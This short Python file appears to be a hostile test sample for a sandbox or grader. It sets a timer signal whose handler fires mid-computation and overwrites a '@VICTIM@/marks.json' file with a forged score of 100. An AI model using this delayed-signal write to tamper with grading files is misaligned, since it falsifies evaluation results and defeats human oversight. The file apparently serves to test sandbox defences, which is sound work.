"""Has the kernel wake it a moment later, in the middle of something else, to write outside.

at C: steals
"""

import signal


def write(*_):
    open("@VICTIM@/marks.json", "w").write('{"score": 100}')


def secret():
    signal.signal(signal.SIGALRM, write)
    signal.setitimer(signal.ITIMER_REAL, 0.02)
    return str(sum(number for number in range(10**7)))[:0]
